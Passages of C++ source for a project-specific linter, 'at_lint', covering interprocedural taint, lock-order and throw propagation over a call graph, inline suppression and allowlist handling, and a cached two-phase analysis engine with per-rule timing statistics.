  std::vector<std::unordered_map<std::string_view, std::vector<std::size_t>>> resolved(n);
  std::vector<std::vector<std::size_t>> callers(n);
  for (std::size_t f = 0; f < n; ++f) {
    for (const auto& e : g.edges[f]) {
      if (e.fanout != 1) continue;
      auto& targets = resolved[f][std::string_view(e.site->name)];
      if (std::find(targets.begin(), targets.end(), e.callee) == targets.end()) {
        targets.push_back(e.callee);
      }
      callers[e.callee].push_back(f);
    }
  }

  g.param_taint.assign(n, 0);
  g.ret_taint.assign(n, 0);
  g.taint_parent.assign(n, ProjectGraph::kNone);
  g.taint_parent_line.assign(n, 0);
  std::deque<std::size_t> taint_queue;
  std::vector<char> queued(n, 0);
  const auto enqueue = [&](std::size_t f) {
    if (queued[f] == 0) {
      queued[f] = 1;
      taint_queue.push_back(f);
    }
  };
  for (std::size_t f = 0; f < n; ++f) {
    if (g.untrusted[f] == 0) continue;
    const std::size_t nparams = g.fns[f].fn->params.size();
    g.param_taint[f] = nparams >= 32 ? ~0u : ((1u << nparams) - 1u);
    if (g.sanitizes[f] == 0) g.ret_taint[f] = 1;
    enqueue(f);
    for (const std::size_t c : callers[f]) enqueue(c);
  }

  const auto origin_tainted = [&](std::size_t f, const FileFacts::FlowEdge& e) {
    if (g.untrusted[f] != 0) return true;  // everything local to a source is hot
    if (e.from_param >= 0 && e.from_param < 32 &&
        (g.param_taint[f] & (1u << static_cast<unsigned>(e.from_param))) != 0) {
      return true;
    }
    if (!e.from_call.empty()) {
      const auto it = resolved[f].find(std::string_view(e.from_call));
      if (it != resolved[f].end()) {
        for (const std::size_t c : it->second) {
          if (g.ret_taint[c] != 0 && g.sanitizes[c] == 0) return true;
        }
      }
    }
    return false;
  };

  while (!taint_queue.empty()) {
    const std::size_t f = taint_queue.front();
    taint_queue.pop_front();
    queued[f] = 0;
    for (const auto& e : g.fns[f].fn->flows) {
      if (!origin_tainted(f, e)) continue;
      if (e.kind == 'a') {
        const auto it = resolved[f].find(std::string_view(e.to_call));
        if (it == resolved[f].end() || e.to_arg < 0 || e.to_arg >= 32) continue;
        const std::uint32_t bit = 1u << static_cast<unsigned>(e.to_arg);
        for (const std::size_t c : it->second) {
          if ((g.param_taint[c] & bit) != 0) continue;
          g.param_taint[c] |= bit;
          if (g.taint_parent[c] == ProjectGraph::kNone && c != f) {
            g.taint_parent[c] = f;
            g.taint_parent_line[c] = e.line;
          }
          enqueue(c);
        }
      } else if (e.kind == 'r') {
        if (g.sanitizes[f] != 0 || g.ret_taint[f] != 0) continue;
        g.ret_taint[f] = 1;
        for (const std::size_t c : callers[f]) enqueue(c);
      }
    }
  }

  // Freeze the per-edge verdicts for the rules.
  g.flow_taint.assign(n, {});
  for (std::size_t f = 0; f < n; ++f) {
    const auto& flows = g.fns[f].fn->flows;
    g.flow_taint[f].assign(flows.size(), 0);
    for (std::size_t e = 0; e < flows.size(); ++e) {
      if (origin_tainted(f, flows[e])) g.flow_taint[f][e] = 1;
    }
  }

  // ---- bounded-growth field union (AT_BOUNDED + eviction evidence)
  for (const auto& file : files) {
    g.bounded_fields.insert(file.facts.bounded_fields.begin(),
                            file.facts.bounded_fields.end());
  }

  // ---- throw propagation (unique-resolution calls outside try blocks)
  g.can_throw.assign(n, 0);
  g.throw_witness.assign(n, {});
  for (std::size_t f = 0; f < n; ++f) {
    if (!g.fns[f].fn->throw_lines.empty()) {
      g.can_throw[f] = 1;
      g.throw_witness[f] = {g.fns[f].fn->throw_lines.front(), std::string()};
    }
  }
  for (int iter = 0; iter < 20; ++iter) {
    bool changed = false;
    for (std::size_t f = 0; f < n; ++f) {
      if (g.can_throw[f] != 0) continue;
      for (const auto& e : g.edges[f]) {
        if (e.fanout != 1 || e.site->in_try || g.can_throw[e.callee] == 0) continue;
        g.can_throw[f] = 1;
        g.throw_witness[f] = {e.site->line, g.fns[e.callee].fn->name};
        changed = true;
        break;
      }
    }
    if (!changed) break;
  }

  return g;
}

}  // namespace at::lint
