#pragma once
// Phase-2 linker: stitches per-file facts into project-wide graphs. Built
// fresh on every run (phase 1 is the cached part); all heavy lifting is
// index lookups over already-extracted facts, so linking ~200 files costs
// single-digit milliseconds.
//
// Call resolution is name-based, pruned by the include closure: a call
// `foo(...)` in a.cpp resolves to every project function whose last name
// component is `foo` and whose defining file (or that file's sibling
// header) is reachable through a.cpp's quoted includes. The distinct-name
// fanout of a resolution gates how each analysis uses the edge:
//   fanout == 1  lock-acquisition, throw, and taint propagation (precision
//                first: a wrong edge forges a deadlock cycle, a noexcept
//                report, or a phantom taint path)
//   fanout <= 2  hot-path reachability (recall matters more; the report
//                carries the full call chain so a reviewer can audit it)

#include <cstddef>
#include <string>
#include <unordered_map>
#include <unordered_set>
#include <vector>

#include "at_lint/lint.hpp"

namespace at::lint {

struct ProjectGraph {
  static constexpr std::size_t kNone = static_cast<std::size_t>(-1);

  /// One function entry (definition, annotated declaration, or ThreadPool
  /// task pseudo-function) with its owning file.
  struct FnRef {
    std::size_t file = 0;  ///< index into the files vector passed to link_project
    const FileFacts::Function* fn = nullptr;
  };
  std::vector<FnRef> fns;

  struct Edge {
    std::size_t callee = 0;                         ///< index into fns
    const FileFacts::CallSite* site = nullptr;
    std::size_t fanout = 1;  ///< distinct callee names this site resolved to
  };
  std::vector<std::vector<Edge>> edges;  ///< outgoing, indexed like fns

  /// Effective hot flag per entry: AT_HOT unioned across same-name entries
  /// (an annotated header prototype marks the out-of-line definition).
  std::vector<char> hot_flag;

  /// Transitively-closed lock acquisitions per entry: direct LockGuard
  /// scopes + AT_ACQUIRES annotations + unique-resolution callees.
  std::vector<std::vector<std::string>> acquires;

  /// Lock-order edges discovered through helper propagation: a mutex held
  /// at a call site precedes every mutex the callee's summary acquires.
  struct LockEdge {
    std::string first, second;  ///< first is acquired before second
    std::string file;           ///< call site attribution
    std::uint32_t line = 0;
  };
  std::vector<LockEdge> propagated_lock_edges;

  /// Hot-path reachability (BFS from AT_HOT functions and the intrinsic
  /// drain-loop roots: Engine run/run_until/step in src/sim/, run_shard).
  std::vector<char> hot;
  std::vector<char> hot_root;
  std::vector<std::size_t> hot_parent;  ///< BFS parent, kNone at roots

  /// Throw propagation: an entry can throw when its body throws outside a
  /// try block, or it calls (outside a try block, unique resolution) an
  /// entry that can.
  std::vector<char> can_throw;
  struct ThrowWitness {
    std::uint32_t line = 0;  ///< throw statement or offending call site
    std::string via;         ///< callee name, empty for a direct throw
  };
  std::vector<ThrowWitness> throw_witness;

  /// Taint propagation (worklist over the FlowEdge summaries, fanout == 1
  /// call resolution like throw propagation). Seeds: AT_UNTRUSTED entries
  /// taint all their parameters and their return value. An arg-pass edge
  /// whose origin is tainted taints the callee's parameter; a return edge
  /// taints the caller-visible result unless the entry is AT_SANITIZES.
  std::vector<char> untrusted;             ///< unioned across same-name entries
  std::vector<char> sanitizes;             ///< unioned across same-name entries
  std::vector<std::uint32_t> param_taint;  ///< bitmask, bit i = parameter i tainted
  std::vector<char> ret_taint;
  /// Provenance for diagnostics: the caller that first tainted this
  /// entry's parameters and the call-site line (kNone/0 at seeds).
  std::vector<std::size_t> taint_parent;
  std::vector<std::uint32_t> taint_parent_line;
  /// Per-entry, per-FlowEdge taint verdict, parallel to fns[f].fn->flows:
  /// the edge's origin is tainted after the interprocedural fixpoint.
  /// Rules read this instead of re-deriving resolution.
  std::vector<std::vector<char>> flow_taint;

  /// Project-wide union of every file's bounded_fields (AT_BOUNDED
  /// annotations + eviction evidence), consumed by unbounded-growth.
  std::unordered_set<std::string> bounded_fields;

  /// Reflexive include closure per file path (quoted includes + sibling
  /// pairing), shared with the cross-TU determinism rule.
  std::unordered_map<std::string, std::unordered_set<std::string>> closure;

  const std::vector<FileAnalysis>* files = nullptr;

  /// "root -> caller -> ... -> fns[f]" along the hot BFS parents.
  [[nodiscard]] std::string hot_chain(std::size_t f) const;

  /// "source -> caller -> ... -> fns[f]" along the taint parents.
  [[nodiscard]] std::string taint_chain(std::size_t f) const;
};

[[nodiscard]] ProjectGraph link_project(const std::vector<FileAnalysis>& files);

}  // namespace at::lint
