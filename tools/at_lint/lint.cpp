#include "at_lint/lint.hpp"

#include <algorithm>
#include <atomic>
#include <cctype>
#include <chrono>
#include <set>
#include <tuple>
#include <unordered_map>
#include <unordered_set>
#include <utility>

#include "at_lint/cache.hpp"
#include "at_lint/facts.hpp"
#include "at_lint/link.hpp"
#include "at_lint/token_util.hpp"
#include "util/thread_pool.hpp"

namespace at::lint {

namespace {

/// Bump whenever any rule's behavior changes: the string feeds engine_salt(),
/// which keys the incremental cache, so every entry self-invalidates.
constexpr std::string_view kEngineVersion =
    "at_lint-v4.0:banned-call,pragma-once,include-cycle,raw-new-delete,guarded-by,"
    "determinism,lock-order,header-hygiene,uninit-member,blocking-in-hot-path,"
    "atomic-order,noexcept-escape,taint-to-sink,dangling-view,unbounded-growth";

std::string_view trim(std::string_view text) {
  while (!text.empty() && std::isspace(static_cast<unsigned char>(text.front()))) {
    text.remove_prefix(1);
  }
  while (!text.empty() && std::isspace(static_cast<unsigned char>(text.back()))) {
    text.remove_suffix(1);
  }
  return text;
}

bool all_macro_case(std::string_view name) {
  for (const char c : name) {
    if (std::islower(static_cast<unsigned char>(c)) != 0) return false;
  }
  return true;
}

// ---------------------------------------------------------------- facts

void extract_includes(const TokenStream& ts, FileFacts& facts) {
  const auto& toks = ts.tokens;
  for (std::size_t i = 0; i + 2 < toks.size(); ++i) {
    if (tok::is_punct(toks, i, "#") && toks[i].in_pp && tok::is_ident(toks, i + 1, "include") &&
        toks[i + 2].kind == TokKind::kString) {
      facts.quoted_includes.push_back(toks[i + 2].text);
    }
  }
}

void extract_lock_edges(const TokenStream& ts, FileFacts& facts) {
  const auto& toks = ts.tokens;
  struct Held {
    std::string expr;  // empty = lambda barrier
    int depth = 0;
  };
  std::vector<Held> held;
  int depth = 0;
  for (std::size_t i = 0; i < toks.size(); ++i) {
    const Token& t = toks[i];
    if (t.kind == TokKind::kPunct) {
      if (t.text == "{") {
        ++depth;
      } else if (t.text == "}") {
        --depth;
        while (!held.empty() && held.back().depth > depth) held.pop_back();
      } else if (t.text == "[") {
        // A lambda body defers execution: acquisitions inside it are NOT
        // nested under the enclosing scope's guards. Push a barrier.
        const std::size_t body = tok::lambda_body(toks, i);
        if (body != tok::kNpos) {
          i = body;  // jump to the body's '{' (no braces occur in between)
          ++depth;
          held.push_back({std::string(), depth});
        }
      }
      continue;
    }
    if (t.kind != TokKind::kIdent) continue;
    if (t.text == "LockGuard") {
      std::size_t j = i + 1;
      if (j < toks.size() && toks[j].kind == TokKind::kIdent) ++j;  // guard name
      if (!tok::is_punct(toks, j, "(") && !tok::is_punct(toks, j, "{")) continue;
      const bool paren = toks[j].text == "(";
      const std::size_t close = tok::match_forward(toks, j, paren ? "(" : "{", paren ? ")" : "}");
      if (close == tok::kNpos) continue;
      const std::string expr = tok::spelling(toks, j + 1, close);
      if (expr.empty()) continue;
      for (auto it = held.rbegin(); it != held.rend(); ++it) {
        if (it->expr.empty()) break;  // lambda barrier
        facts.lock_edges.push_back({it->expr, expr, t.line});
      }
      held.push_back({expr, depth});
      i = close;
      continue;
    }
    // in_pp skips the macro's own #define line in annotated_mutex.hpp.
    const bool before = t.text == "AT_ACQUIRED_BEFORE" && !t.in_pp;
    const bool after = t.text == "AT_ACQUIRED_AFTER" && !t.in_pp;
    if (before || after) {
      if (!tok::is_punct(toks, i + 1, "(")) continue;
      const std::size_t close = tok::match_forward(toks, i + 1, "(", ")");
      if (close == tok::kNpos) continue;
      // The annotated mutex is the nearest identifier before the macro.
      std::string self;
      for (std::size_t k = i; k-- > 0;) {
        if (toks[k].kind == TokKind::kIdent) {
          self = toks[k].text;
          break;
        }
      }
      if (self.empty()) continue;
      // Split the argument list on top-level commas.
      std::size_t arg_begin = i + 2;
      std::size_t d = 0;
      for (std::size_t k = i + 2; k <= close; ++k) {
        const bool end = k == close;
        if (tok::is_punct(toks, k, "(")) ++d;
        if (tok::is_punct(toks, k, ")") && !end) --d;
        if (end || (d == 0 && tok::is_punct(toks, k, ","))) {
          const std::string arg = tok::spelling(toks, arg_begin, k);
          if (!arg.empty()) {
            if (before) {
              facts.lock_edges.push_back({self, arg, t.line});
            } else {
              facts.lock_edges.push_back({arg, self, t.line});
            }
          }
          arg_begin = k + 1;
        }
      }
      i = close;
    }
  }
}

void extract_types(const TokenStream& ts, FileFacts& facts) {
  const auto& toks = ts.tokens;
  std::unordered_set<std::string> declared;
  std::unordered_set<std::string> used;
  for (std::size_t i = 0; i < toks.size(); ++i) {
    const Token& t = toks[i];
    if (t.kind != TokKind::kIdent) continue;
    if (t.text == "class" || t.text == "struct" || t.text == "enum") {
      std::size_t j = i + 1;
      if (t.text == "enum" &&
          (tok::is_ident(toks, j, "class") || tok::is_ident(toks, j, "struct"))) {
        ++j;
      }
      // Collect idents (macro markers like AT_SCOPED_CAPABILITY ride between
      // the keyword and the name); the last one before `{`/`:`/`final` is
      // the name. Anything else first means fwd-decl / template param.
      std::string name;
      while (j < toks.size() && toks[j].kind == TokKind::kIdent) {
        if (toks[j].text == "final") break;
        name = toks[j].text;
        ++j;
      }
      if (!name.empty() &&
          (tok::is_punct(toks, j, "{") || tok::is_punct(toks, j, ":") ||
           tok::is_ident(toks, j, "final"))) {
        declared.insert(name);
      }
      i = j > i ? j - 1 : i;
      continue;
    }
    if (t.text == "using" && i + 2 < toks.size() && toks[i + 1].kind == TokKind::kIdent &&
        tok::is_punct(toks, i + 2, "=")) {
      declared.insert(toks[i + 1].text);
      i += 2;
      continue;
    }
    // Capitalized use (project type names are CamelCase; macros are
    // SHOUTING_CASE and skipped).
    const char first = t.text.front();
    if (std::isupper(static_cast<unsigned char>(first)) != 0 && t.text.size() >= 3 &&
        !all_macro_case(t.text) && !t.in_pp) {
      const bool decl_pos =
          i > 0 && (tok::is_ident(toks, i - 1, "class") || tok::is_ident(toks, i - 1, "struct") ||
                    tok::is_ident(toks, i - 1, "enum") || tok::is_ident(toks, i - 1, "typename"));
      if (!decl_pos && used.insert(t.text).second) {
        facts.used_types.push_back({t.text, t.line});
      }
    }
  }
  facts.declared_types.assign(declared.begin(), declared.end());
  std::sort(facts.declared_types.begin(), facts.declared_types.end());
}

/// `// at_lint: allow(rule1, rule2) — justification` suppresses those rules
/// on the comment's line, or — when the comment stands alone — on the next
/// line that carries code. The tag must open the comment (only whitespace
/// before it): prose that merely *mentions* the syntax, like this
/// docstring, is not a suppression — and must not show up as a stale one.
void extract_suppressions(const TokenStream& ts, FileFacts& facts) {
  for (const Comment& comment : ts.comments) {
    const std::size_t tag = comment.text.find("at_lint:");
    if (tag == std::string::npos) continue;
    const std::string_view before = std::string_view(comment.text).substr(0, tag);
    if (before.find_first_not_of(" \t/*!<") != std::string_view::npos) continue;
    const std::size_t allow = comment.text.find("allow", tag);
    if (allow == std::string::npos) continue;
    const std::size_t open = comment.text.find('(', allow);
    const std::size_t close = comment.text.find(')', open == std::string::npos ? 0 : open);
    if (open == std::string::npos || close == std::string::npos) continue;

    std::uint32_t target = comment.line;
    if (comment.own_line) {
      // A standalone comment applies to the next line that carries code
      // (code trailing a block comment's closing line counts as that line).
      std::uint32_t next = 0;
      bool code_on_end_line = false;
      for (const Token& t : ts.tokens) {
        if (t.line == comment.end_line) code_on_end_line = true;
        if (t.line > comment.end_line && (next == 0 || t.line < next)) next = t.line;
      }
      if (code_on_end_line) {
        target = comment.end_line;
      } else if (next != 0) {
        target = next;
      }
    }
    std::string_view args(comment.text);
    args = args.substr(open + 1, close - open - 1);
    while (!args.empty()) {
      const std::size_t comma = args.find(',');
      const std::string_view rule = trim(args.substr(0, comma));
      if (!rule.empty()) facts.suppressions.push_back({std::string(rule), target});
      if (comma == std::string_view::npos) break;
      args.remove_prefix(comma + 1);
    }
  }
}

/// Index of the inline suppression matching `v`, or kNpos. Callers bump the
/// entry's hit counter (per-file hits are cached with the facts; project
/// hits are tallied per run) so --check-stale-allowlist can flag dead ones.
std::size_t find_suppression(const FileFacts& facts, const Violation& v) {
  for (std::size_t k = 0; k < facts.suppressions.size(); ++k) {
    const auto& s = facts.suppressions[k];
    if (s.line == v.line && (s.rule == "*" || s.rule == v.rule)) return k;
  }
  return tok::kNpos;
}

}  // namespace

// ---------------------------------------------------------------- helpers

void Check::file(const FileCtx&, std::vector<Violation>&) const {}
void Check::project(const ProjectCtx&, std::vector<Violation>&) const {}

std::uint64_t fnv1a(std::string_view data, std::uint64_t seed) noexcept {
  std::uint64_t hash = seed;
  for (const char c : data) {
    hash ^= static_cast<unsigned char>(c);
    hash *= 0x100000001b3ULL;
  }
  return hash;
}

std::uint64_t engine_salt() noexcept { return fnv1a(kEngineVersion); }

std::string line_excerpt(std::string_view content, std::size_t line) {
  std::size_t start = 0;
  for (std::size_t n = 1; n < line && start < content.size(); ++n) {
    const std::size_t nl = content.find('\n', start);
    if (nl == std::string_view::npos) return std::string();
    start = nl + 1;
  }
  std::size_t end = content.find('\n', start);
  if (end == std::string_view::npos) end = content.size();
  return std::string(trim(content.substr(start, end - start)));
}

std::size_t column_of(std::string_view content, std::size_t offset) noexcept {
  if (offset > content.size()) offset = content.size();
  const std::size_t line_start =
      offset == 0 ? 0 : content.rfind('\n', offset - 1) + 1;  // npos + 1 == 0
  return offset - line_start + 1;
}

std::string sibling_header_path(std::string_view path) {
  if (path.size() < 4 || path.substr(path.size() - 4) != ".cpp") return std::string();
  return std::string(path.substr(0, path.size() - 4)) + ".hpp";
}

namespace {

/// analyze_file with optional per-rule timing: `rule_nanos` (indexed like
/// registry(), shared across worker threads) accumulates each rule's
/// file-phase cost for --stats. Null skips the clock reads entirely.
FileAnalysis analyze_file_impl(const SourceFile& file, const TokenStream& tokens,
                               const SourceFile* sibling,
                               const TokenStream* sibling_tokens,
                               std::atomic<long long>* rule_nanos) {
  FileAnalysis out;
  out.path = file.path;
  extract_includes(tokens, out.facts);
  extract_lock_edges(tokens, out.facts);
  extract_types(tokens, out.facts);
  extract_suppressions(tokens, out.facts);
  facts::extract_code_facts(tokens, sibling_tokens, out.facts);

  FileCtx ctx{file, tokens, sibling, sibling_tokens};
  std::vector<Violation> found;
  const auto& checks = registry();
  for (std::size_t c = 0; c < checks.size(); ++c) {
    if (rule_nanos == nullptr) {
      checks[c]->file(ctx, found);
      continue;
    }
    const auto start = std::chrono::steady_clock::now();
    checks[c]->file(ctx, found);
    const auto stop = std::chrono::steady_clock::now();
    rule_nanos[c].fetch_add(
        std::chrono::duration_cast<std::chrono::nanoseconds>(stop - start).count(),
        std::memory_order_relaxed);
  }
  for (auto& v : found) {
    const std::size_t s = find_suppression(out.facts, v);
    if (s == tok::kNpos) {
      out.violations.push_back(std::move(v));
    } else {
      ++out.facts.suppressions[s].hits;
    }
  }
  return out;
}

}  // namespace

FileAnalysis analyze_file(const SourceFile& file, const TokenStream& tokens,
                          const SourceFile* sibling, const TokenStream* sibling_tokens) {
  return analyze_file_impl(file, tokens, sibling, sibling_tokens, nullptr);
}

// ---------------------------------------------------------------- allowlist

Allowlist Allowlist::parse(std::string_view text) {
  Allowlist allow;
  std::size_t start = 0;
  while (start <= text.size()) {
    std::size_t end = text.find('\n', start);
    if (end == std::string_view::npos) end = text.size();
    auto line = trim(text.substr(start, end - start));
    start = end + 1;
    if (line.empty() || line.front() == '#') {
      if (end == text.size()) break;
      continue;
    }
    AllowEntry entry;
    const auto take_word = [&line]() {
      std::size_t word_end = 0;
      while (word_end < line.size() &&
             std::isspace(static_cast<unsigned char>(line[word_end])) == 0) {
        ++word_end;
      }
      const auto word = line.substr(0, word_end);
      line = trim(line.substr(word_end));
      return std::string(word);
    };
    entry.rule = take_word();
    entry.file = take_word();
    entry.token = std::string(line);  // rest of line, may contain spaces
    if (!entry.rule.empty() && !entry.file.empty()) allow.entries_.push_back(std::move(entry));
    if (end == text.size()) break;
  }
  return allow;
}

namespace {

bool entry_matches(const AllowEntry& entry, const Violation& violation) {
  if (entry.rule != "*" && entry.rule != violation.rule) return false;
  if (entry.file != "*" && entry.file != violation.file) return false;
  return entry.token.empty() ||
         violation.excerpt.find(entry.token) != std::string::npos;
}

}  // namespace

bool Allowlist::allows(const Violation& violation) const {
  for (const auto& entry : entries_) {
    if (entry_matches(entry, violation)) return true;
  }
  return false;
}

std::vector<std::size_t> Allowlist::match_counts(
    const std::vector<Violation>& violations) const {
  std::vector<std::size_t> counts(entries_.size(), 0);
  for (const auto& v : violations) {
    for (std::size_t i = 0; i < entries_.size(); ++i) {
      if (entry_matches(entries_[i], v)) ++counts[i];
    }
  }
  return counts;
}

// ---------------------------------------------------------------- engine

RunResult run(const std::vector<SourceFile>& files, const RunOptions& opts) {
  using Clock = std::chrono::steady_clock;
  const auto t0 = Clock::now();

  RunResult result;
  result.stats.files = files.size();
  const std::size_t n = files.size();

  std::unordered_map<std::string_view, std::size_t> by_path;
  by_path.reserve(n);
  for (std::size_t i = 0; i < n; ++i) by_path.emplace(files[i].path, i);

  // Sibling pairing + cache keys. A .cpp's key covers its header's bytes
  // too, because guarded-by/determinism read declarations from the sibling.
  std::vector<const SourceFile*> sibling(n, nullptr);
  std::vector<std::uint64_t> keys(n, 0);
  for (std::size_t i = 0; i < n; ++i) {
    const std::string sib = sibling_header_path(files[i].path);
    if (!sib.empty()) {
      const auto it = by_path.find(std::string_view(sib));
      if (it != by_path.end()) sibling[i] = &files[it->second];
    }
    std::uint64_t key = fnv1a(files[i].content, engine_salt());
    if (sibling[i] != nullptr) key = fnv1a(sibling[i]->content, key ^ 0x9e3779b97f4a7c15ULL);
    keys[i] = key;
  }

  std::vector<FileAnalysis> analyses(n);
  std::vector<char> miss(n, 0);
  for (std::size_t i = 0; i < n; ++i) {
    const FileAnalysis* hit =
        opts.cache != nullptr ? opts.cache->lookup(files[i].path, keys[i]) : nullptr;
    if (hit != nullptr) {
      analyses[i] = *hit;
      analyses[i].from_cache = true;
      ++result.stats.cache_hits;
    } else {
      miss[i] = 1;
    }
  }

  // Lex misses plus any header a missed .cpp pairs with (its tokens feed
  // sibling-aware rules even when the header itself is a cache hit).
  std::vector<char> need_lex = miss;
  for (std::size_t i = 0; i < n; ++i) {
    if (miss[i] == 0 || sibling[i] == nullptr) continue;
    const auto it = by_path.find(std::string_view(sibling[i]->path));
    if (it != by_path.end()) need_lex[it->second] = 1;
  }

  std::vector<TokenStream> streams(n);
  const auto for_each = [&](const std::function<void(std::size_t)>& body) {
    if (opts.pool != nullptr) {
      opts.pool->parallel_for(0, n, body, /*grain=*/1);
    } else {
      for (std::size_t i = 0; i < n; ++i) body(i);
    }
  };
  for_each([&](std::size_t i) {
    if (need_lex[i] != 0) streams[i] = lex(files[i].content);
  });
  const auto t_lex = Clock::now();
  const auto& checks = registry();
  std::vector<std::atomic<long long>> file_rule_nanos(checks.size());
  for_each([&](std::size_t i) {
    if (miss[i] == 0) return;
    const TokenStream* sib_stream = nullptr;
    if (sibling[i] != nullptr) {
      const auto it = by_path.find(std::string_view(sibling[i]->path));
      if (it != by_path.end()) sib_stream = &streams[it->second];
    }
    analyses[i] =
        analyze_file_impl(files[i], streams[i], sibling[i], sib_stream,
                          file_rule_nanos.data());
    analyses[i].key = keys[i];
  });
  result.stats.analyzed = static_cast<std::size_t>(
      std::count(miss.begin(), miss.end(), static_cast<char>(1)));
  if (opts.cache != nullptr) {
    for (std::size_t i = 0; i < n; ++i) {
      if (miss[i] != 0) opts.cache->store(analyses[i]);
    }
  }
  const auto t1 = Clock::now();

  // Phase 2: link facts into the project graphs, then run the project-wide
  // rules. Always executes — on a fully-warm run this is the entire cost.
  const ProjectGraph graph = link_project(analyses);
  const auto t_link = Clock::now();
  ProjectCtx project_ctx{analyses, &graph};
  std::vector<Violation> project_violations;
  std::vector<double> project_rule_ms(checks.size(), 0.0);
  for (std::size_t c = 0; c < checks.size(); ++c) {
    const auto start = Clock::now();
    checks[c]->project(project_ctx, project_violations);
    project_rule_ms[c] =
        std::chrono::duration<double, std::milli>(Clock::now() - start).count();
  }

  std::unordered_map<std::string_view, const FileFacts*> facts_of;
  for (const auto& a : analyses) facts_of.emplace(a.path, &a.facts);
  // Inline suppressions consumed by project findings are tallied per run
  // (they cannot be cached: the finding depends on other files' facts).
  std::set<std::pair<std::string, std::size_t>> project_hits;
  for (auto& v : project_violations) {
    const auto it = facts_of.find(std::string_view(v.file));
    if (it != facts_of.end()) {
      const std::size_t s = find_suppression(*it->second, v);
      if (s != tok::kNpos) {
        project_hits.emplace(v.file, s);
        continue;
      }
    }
    result.raw.push_back(std::move(v));
  }
  for (const auto& a : analyses) {
    result.raw.insert(result.raw.end(), a.violations.begin(), a.violations.end());
  }
  const auto order = [](const Violation& a, const Violation& b) {
    return std::tie(a.file, a.line, a.column, a.rule, a.message) <
           std::tie(b.file, b.line, b.column, b.rule, b.message);
  };
  std::sort(result.raw.begin(), result.raw.end(), order);
  result.stats.raw_violations = result.raw.size();

  for (const auto& v : result.raw) {
    if (opts.allow != nullptr && opts.allow->allows(v)) {
      ++result.stats.allowlisted;
      continue;
    }
    result.violations.push_back(v);
  }

  // Stale inline suppressions. A suppression's effective hit count this
  // run merges two sources: per-file hits, which travel with the cached
  // facts (a warm entry re-reports the hits recorded when its file was
  // analyzed — analyze_file never reruns on a hit), and project-phase
  // hits, which are recomputed every run because phase 2 always executes
  // and its findings depend on other files' facts. Only zero hits from
  // BOTH sources means stale: dropping the cached side would flag every
  // per-file suppression on warm runs, dropping the fresh side would
  // flag every cross-TU suppression always.
  for (const auto& a : analyses) {
    for (std::size_t s = 0; s < a.facts.suppressions.size(); ++s) {
      const auto& sup = a.facts.suppressions[s];
      const std::size_t merged_hits =
          sup.hits + (project_hits.contains({a.path, s}) ? 1 : 0);
      if (merged_hits == 0) {
        result.stale_suppressions.push_back({a.path, sup.rule, sup.line});
      }
    }
  }
  std::sort(result.stale_suppressions.begin(), result.stale_suppressions.end(),
            [](const StaleSuppression& a, const StaleSuppression& b) {
              return std::tie(a.file, a.line, a.rule) < std::tie(b.file, b.line, b.rule);
            });

  // Per-rule attribution for --stats: file-phase nanos accumulated across
  // worker threads + this run's serial project-phase timings, with raw
  // (pre-allowlist) finding counts.
  result.stats.rules.reserve(checks.size());
  for (std::size_t c = 0; c < checks.size(); ++c) {
    RunStats::RuleStat rs;
    rs.name = std::string(checks[c]->name());
    rs.file_ms =
        static_cast<double>(file_rule_nanos[c].load(std::memory_order_relaxed)) / 1e6;
    rs.project_ms = project_rule_ms[c];
    rs.violations = static_cast<std::size_t>(
        std::count_if(result.raw.begin(), result.raw.end(),
                      [&rs](const Violation& v) { return v.rule == rs.name; }));
    result.stats.rules.push_back(std::move(rs));
  }

  const auto t2 = Clock::now();
  result.stats.lex_ms = std::chrono::duration<double, std::milli>(t_lex - t0).count();
  result.stats.extract_ms = std::chrono::duration<double, std::milli>(t1 - t_lex).count();
  result.stats.link_ms = std::chrono::duration<double, std::milli>(t_link - t1).count();
  result.stats.check_ms = std::chrono::duration<double, std::milli>(t2 - t_link).count();
  result.stats.analyze_ms = std::chrono::duration<double, std::milli>(t1 - t0).count();
  result.stats.project_ms = std::chrono::duration<double, std::milli>(t2 - t1).count();
  return result;
}

std::vector<Violation> run_check(std::string_view rule, const std::vector<SourceFile>& files) {
  const Check* target = nullptr;
  for (const Check* check : registry()) {
    if (check->name() == rule) target = check;
  }
  if (target == nullptr) return {};

  std::unordered_map<std::string_view, std::size_t> by_path;
  for (std::size_t i = 0; i < files.size(); ++i) by_path.emplace(files[i].path, i);
  std::vector<TokenStream> streams(files.size());
  for (std::size_t i = 0; i < files.size(); ++i) streams[i] = lex(files[i].content);

  std::vector<FileAnalysis> analyses(files.size());
  std::vector<Violation> out;
  for (std::size_t i = 0; i < files.size(); ++i) {
    const SourceFile* sib = nullptr;
    const TokenStream* sib_stream = nullptr;
    const std::string sib_path = sibling_header_path(files[i].path);
    const auto it = by_path.find(std::string_view(sib_path));
    if (!sib_path.empty() && it != by_path.end()) {
      sib = &files[it->second];
      sib_stream = &streams[it->second];
    }
    FileAnalysis a;
    a.path = files[i].path;
    extract_includes(streams[i], a.facts);
    extract_lock_edges(streams[i], a.facts);
    extract_types(streams[i], a.facts);
    extract_suppressions(streams[i], a.facts);
    facts::extract_code_facts(streams[i], sib_stream, a.facts);
    FileCtx ctx{files[i], streams[i], sib, sib_stream};
    std::vector<Violation> found;
    target->file(ctx, found);
    for (auto& v : found) {
      if (find_suppression(a.facts, v) == tok::kNpos) out.push_back(std::move(v));
    }
    analyses[i] = std::move(a);
  }
  const ProjectGraph graph = link_project(analyses);
  ProjectCtx ctx{analyses, &graph};
  std::vector<Violation> project_found;
  target->project(ctx, project_found);
  std::unordered_map<std::string_view, const FileFacts*> facts_of;
  for (const auto& a : analyses) facts_of.emplace(a.path, &a.facts);
  for (auto& v : project_found) {
    const auto it = facts_of.find(std::string_view(v.file));
    if (it != facts_of.end() && find_suppression(*it->second, v) != tok::kNpos) continue;
    out.push_back(std::move(v));
  }
  std::sort(out.begin(), out.end(), [](const Violation& a, const Violation& b) {
    return std::tie(a.file, a.line, a.column, a.rule, a.message) <
           std::tie(b.file, b.line, b.column, b.rule, b.message);
  });
  return out;
}

std::vector<Violation> check_banned_calls(const std::vector<SourceFile>& files) {
  return run_check("banned-call", files);
}
std::vector<Violation> check_pragma_once(const std::vector<SourceFile>& files) {
  return run_check("pragma-once", files);
}
std::vector<Violation> check_include_cycles(const std::vector<SourceFile>& files) {
  return run_check("include-cycle", files);
}
std::vector<Violation> check_raw_new_delete(const std::vector<SourceFile>& files) {
  return run_check("raw-new-delete", files);
}
std::vector<Violation> check_guarded_by(const std::vector<SourceFile>& files) {
  return run_check("guarded-by", files);
}

